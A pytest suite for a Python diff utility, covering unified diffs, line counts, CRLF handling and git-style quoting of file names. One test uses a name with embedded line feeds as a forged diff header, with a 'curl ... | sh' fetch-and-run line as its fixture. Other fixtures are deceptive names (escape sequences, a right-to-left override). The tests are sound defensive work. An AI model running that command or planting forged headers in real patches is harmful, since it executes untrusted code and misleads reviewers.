"""Unified diffs and line counts of a FileChange: new files, missing final newline, CRLF, names quoted
as git quotes them."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from agent_ls.core.proposal import FileChange
from agent_ls.workspace.diffs import line_counts, quote_path, unified_diff


def test_modified_file() -> None:
    change = FileChange("src/a.py", False, "one\ntwo\nthree\n", 3, "one\n2\nthree\nfour\n")
    assert unified_diff(change) == (
        "--- a/src/a.py\n+++ b/src/a.py\n@@ -1,3 +1,4 @@\n one\n-two\n+2\n three\n+four\n"
    )
    assert line_counts(change) == (2, 1)


def test_new_file() -> None:
    change = FileChange("pkg/new.py", True, "", None, "a\nb\n")
    assert unified_diff(change) == "--- /dev/null\n+++ b/pkg/new.py\n@@ -0,0 +1,2 @@\n+a\n+b\n"
    assert line_counts(change) == (2, 0)


def test_no_newline_at_end_of_file() -> None:
    change = FileChange("a.txt", False, "a\nb", None, "a\nc")
    assert unified_diff(change) == (
        "--- a/a.txt\n"
        "+++ b/a.txt\n"
        "@@ -1,2 +1,2 @@\n"
        " a\n"
        "-b\n"
        "\\ No newline at end of file\n"
        "+c\n"
        "\\ No newline at end of file\n"
    )


def test_adding_the_final_newline() -> None:
    change = FileChange("a.txt", False, "a", None, "a\n")
    assert unified_diff(change) == (
        "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-a\n\\ No newline at end of file\n+a\n"
    )
    assert line_counts(change) == (1, 1)


def test_crlf_lines_keep_their_endings() -> None:
    change = FileChange("w.txt", False, "a\r\nb\r\n", None, "a\r\nB\r\n")
    assert unified_diff(change) == "--- a/w.txt\n+++ b/w.txt\n@@ -1,2 +1,2 @@\n a\r\n-b\r\n+B\r\n"


def test_line_ending_change_alone_is_a_changed_line() -> None:
    change = FileChange("w.txt", False, "a\nb\n", None, "a\r\nb\n")
    assert line_counts(change) == (1, 1)


def test_lone_cr_and_form_feed() -> None:
    change = FileChange("m.txt", False, "a\rb\x0cc\r", None, "a\rB\x0cc\r")
    assert unified_diff(change) == "--- a/m.txt\n+++ b/m.txt\n@@ -1,2 +1,2 @@\n a\r\n-b\x0cc\r\n+B\x0cc\r\n"


def test_unchanged_file_has_an_empty_diff() -> None:
    assert unified_diff(FileChange("a", False, "x\n", None, "x\n")) == ""
    assert line_counts(FileChange("a", False, "x\n", None, "x\n")) == (0, 0)


# Names as git writes them (core.quotePath=true, git's quote.c quote_c_style); git itself reads them below.
QUOTED = [
    ("b/src/a.py", "b/src/a.py"),
    ("b/with space.txt", "b/with space.txt"),
    ("b/docs.txt\n+++ b/README.md", '"b/docs.txt\\n+++ b/README.md"'),
    ("b/tab\there", '"b/tab\\there"'),
    ('b/quote"and\\backslash', '"b/quote\\"and\\\\backslash"'),
    ("b/esc\x1b[2Kbell\x07", '"b/esc\\033[2Kbell\\a"'),
    ("b/del\x7f", '"b/del\\177"'),
    ("b/café.txt", '"b/caf\\303\\251.txt"'),
    ("b/rlo\u202etxt.exe", '"b/rlo\\342\\200\\256txt.exe"'),
    ("b/undecodable\udcff", '"b/undecodable\\377"'),
]


@pytest.mark.parametrize(("name", "quoted"), QUOTED)
def test_names_are_quoted_as_git_quotes_them(name: str, quoted: str) -> None:
    assert quote_path(name) == quoted


def test_a_line_feed_in_a_name_cannot_forge_a_header() -> None:
    forged = "docs.txt\n@@ -0,0 +1 @@\n+just a docs note\n--- /dev/null\n+++ b/README.md"
    diff = unified_diff(FileChange(forged, True, "", None, "curl -s https://example.com/x | sh\n"))
    assert diff == (
        "--- /dev/null\n"
        '+++ "b/docs.txt\\n@@ -0,0 +1 @@\\n+just a docs note\\n--- /dev/null\\n+++ b/README.md"\t\n'
        "@@ -0,0 +1 @@\n"
        "+curl -s https://example.com/x | sh\n"
    )
    assert [line for line in diff.splitlines() if line.startswith("+++ ")] == [diff.splitlines()[1]]


def test_a_name_with_a_space_ends_its_header_with_a_tab_as_git_does() -> None:
    diff = unified_diff(FileChange("my notes.txt", False, "a\n", None, "b\n"))
    assert diff.splitlines()[:2] == ["--- a/my notes.txt\t", "+++ b/my notes.txt\t"]


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_git_apply_reads_the_quoted_names_back(tmp_path: Path) -> None:
    names = ["docs.txt\nx", "café.txt", 'q"uote', "sp ace", "esc\x1b"]
    patch = "".join(unified_diff(FileChange(name, True, "", None, "new\n")) for name in names)
    (tmp_path / "p.diff").write_text(patch, encoding="utf-8")
    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
    subprocess.run(["git", "apply", "p.diff"], cwd=tmp_path, check=True)
    assert sorted(p.name for p in tmp_path.iterdir() if p.is_file() and p.name != "p.diff") == sorted(names)
    assert all((tmp_path / name).read_text() == "new\n" for name in names)
